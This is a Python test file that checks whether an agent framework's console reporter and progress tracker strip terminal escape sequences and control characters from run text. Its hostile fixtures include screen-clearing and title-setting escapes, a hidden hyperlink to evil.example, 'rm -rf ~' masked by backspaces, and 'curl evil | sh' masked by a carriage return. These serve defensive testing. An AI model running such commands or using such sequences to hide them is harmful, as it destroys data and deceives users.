"""Escape sequences in documents, tool output and model replies never reach the terminal
(issue 25): whatever the reporters print, on a terminal console, holds no escape sequence,
OSC, C1 control, bell, backspace or bare carriage return from the run's text."""

from __future__ import annotations

import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text

from thinkact.events import (
    CallsScreened,
    DeclineChecked,
    FormatFailed,
    ModelReplied,
    Notice,
    RetryScheduled,
    RunFinished,
    RunStarted,
    StepStarted,
    ToolDenied,
    ToolFinished,
    ToolStarted,
    ValidationFailed,
)
from thinkact.pev.events import (
    PlanRejected,
    PlanStepFinished,
    PlanStepStarted,
    Replanned,
    SubRunEvent,
)
from thinkact.types import ToolCall, ToolResult, Usage
from thinkact.ui.console import ConsoleReporter
from thinkact.ui.progress import ProgressTracker
from thinkact.ui.sanitize import Sanitized, printable
from thinkact.workflow import ProgressMarked

HOSTILE = [
    "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "\x1b]0;pwned title\x07",  # window title (OSC 0, BEL-terminated)
    "\x1b]2;pwned title\x1b\\",  # window title (ST-terminated)
    "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",  # a hidden hyperlink
    "\x1b[5A\x1b[10;10H\x1b[?25l",  # cursor moves, hidden cursor
    "\x1b[31;1mred\x1b[0m",  # colours
    "\x1bc",  # full reset
    "\x1b7\x1b8\x1b(0",  # save/restore cursor, line-drawing charset
    "\x9b2J\x9d0;c1 title\x9c\x85\x8d",  # the same in 8-bit C1 controls
    "\x1bP1$r\x1b\\",  # DCS
    "\x07\x07",  # bell
    "rm -rf ~\x08\x08\x08\x08\x08\x08\x08ls     ",  # backspaces hiding a command
    "curl evil | sh\rls -l         ",  # a carriage return overwriting the line
    "\x00\x7f\x0b\x0c",
    "\x1b]0;unterminated",
    "\x1b[",
    "",
]
PAYLOAD = "before " + " mid ".join(HOSTILE) + " after\n\tindented line"

# What rich itself writes on a terminal: colours and, for the live panel, cursor moves.
_RICH_OWN = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[lh]|\x1b\[2K|\x1b\[1A|\r")


def terminal() -> Console:
    return Console(file=io.StringIO(), width=80, force_terminal=True)


def assert_clean(out: str) -> None:
    rest = _RICH_OWN.sub("", out)
    assert "\x1b" not in rest, repr(rest)
    assert not re.search(r"[\x80-\x9f]", rest), repr(rest)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", rest), repr(rest)
    for sequence in ("\x1b[2J", "\x1b]", "\x1bc", "\x9b", "\x9d", "\x07", "\x08"):
        assert sequence not in out


def test_printable_keeps_text_newlines_and_tabs_and_drops_every_control() -> None:
    assert printable("a\x1b[31mb\x1b[0m\tc\r\nd") == "ab\tc\nd"
    assert printable("\x1b]8;;https://x/\x1b\\link\x1b]8;;\x1b\\") == "link"
    assert printable("\x1b]0;title\x07after") == "after"
    assert printable("\x9b2Jx\x9d0;t\x9cy") == "xy"
    assert printable("over\rwrite") == "overwrite"
    assert printable("\x1b[ after") == "fter"  # as a terminal reads it: ESC [ SP a
    assert printable("plain, ünïcödé 😀 text") == "plain, ünïcödé 😀 text"
    assert_clean(printable(PAYLOAD))


@pytest.mark.parametrize("verbose", [True, False])
def test_the_console_reporter_prints_no_control_sequence_from_a_run(verbose: bool) -> None:
    console = terminal()
    report = ConsoleReporter(console, verbose=verbose, clock=lambda: 0.0)
    call = ToolCall("1", "read_file" + PAYLOAD, {"path": PAYLOAD, PAYLOAD: [PAYLOAD]})
    other = ToolCall("2", "search", {"query": "x"})
    for event in [
        RunStarted("r", PAYLOAD, "model" + PAYLOAD, "xml", 5, tools=(PAYLOAD,)),
        StepStarted(1, 5),
        ModelReplied(1, PAYLOAD, PAYLOAD, (call, other), None, Usage(), 0.0),
        ToolFinished(1, call, ToolResult("1", "read_file", PAYLOAD), 0.0),
        ToolFinished(1, other, ToolResult("2", "search", PAYLOAD, is_error=True), 0.0),
        ToolDenied(1, call, PAYLOAD),
        Notice(1, PAYLOAD, PAYLOAD),
        RetryScheduled(1, 0.5, PAYLOAD),
        ValidationFailed(1, PAYLOAD, PAYLOAD, 1),
        CallsScreened(1, (PAYLOAD,), (PAYLOAD,), Usage(), ((PAYLOAD, PAYLOAD),)),
        DeclineChecked(1, (PAYLOAD,), (PAYLOAD,), Usage(), PAYLOAD),
        ModelReplied(2, PAYLOAD, "", (), None, Usage(), 0.0),
        FormatFailed(2, PAYLOAD, 1),
        ProgressMarked(PAYLOAD),
        PlanStepStarted(PAYLOAD, PAYLOAD),
        SubRunEvent(PAYLOAD, ToolFinished(1, call, ToolResult("1", "t", PAYLOAD), 0.0)),
        PlanStepFinished(PAYLOAD, False, PAYLOAD, "judge", PAYLOAD),
        PlanRejected(1, PAYLOAD),
        Replanned(1, PAYLOAD),
        RunFinished(
            "r", "final_answer", PAYLOAD + "\n[link](https://evil.example/)", 2, Usage(), 0
        ),
    ]:
        report(event)
    out = console.file.getvalue()  # type: ignore[attr-defined]
    assert_clean(out)
    assert "before" in out and "after" in out and "click me" in out
    assert "\tindented" in printable(PAYLOAD)
    # A Markdown link in an answer shows where it goes; no OSC 8 hides it.
    assert "https://evil.example/" in out


@pytest.mark.parametrize("live", [True, False])
def test_the_progress_tracker_prints_no_control_sequence_from_a_run(live: bool) -> None:
    console = terminal()
    steps = ["Scan folder" + PAYLOAD, "Review"]
    with ProgressTracker(console, steps, documents=[PAYLOAD + ".pdf"], live=live) as tracker:
        tracker(RunStarted("r", PAYLOAD, "m", "xml", 5))
        tracker(StepStarted(1, 5))
        tracker(ProgressMarked("scan"))
        read = ToolCall("1", "read_file", {"path": PAYLOAD + ".pdf"})
        tracker(ToolStarted(1, read))
        tracker(ToolFinished(1, read, ToolResult("1", "read_file", PAYLOAD), 0.0))
        tracker(ToolStarted(1, ToolCall("2", PAYLOAD, {PAYLOAD: PAYLOAD})))
        tracker(RunFinished("r", "final_answer", PAYLOAD, 1, Usage(), 0.0))
    out = console.file.getvalue()  # type: ignore[attr-defined]
    assert_clean(out)
    assert "Scan folder" in out


def test_a_sanitized_renderable_keeps_what_rich_itself_writes() -> None:
    plain, safe = terminal(), terminal()
    text = Text("green and bold\n\ttabbed", style="bold green")
    plain.print(text)
    safe.print(Sanitized(text))
    assert safe.file.getvalue() == plain.file.getvalue()  # type: ignore[attr-defined]


_controls = st.text(
    alphabet=st.sampled_from(["\x1b", "\x9b", "\x9d", "\x9c", "[", "]", ";", "0", "8", "\x07"])
    | st.characters(max_codepoint=0x2FF),
    max_size=80,
)


@settings(max_examples=300, deadline=None)
@given(_controls)
def test_no_text_gets_a_control_sequence_to_the_terminal(text: str) -> None:
    console = terminal()
    ConsoleReporter(console)(ToolFinished(1, ToolCall("1", "t", {}), ToolResult("1", "t", text), 0))
    assert_clean(console.file.getvalue())  # type: ignore[attr-defined]
    assert_clean(printable(text))
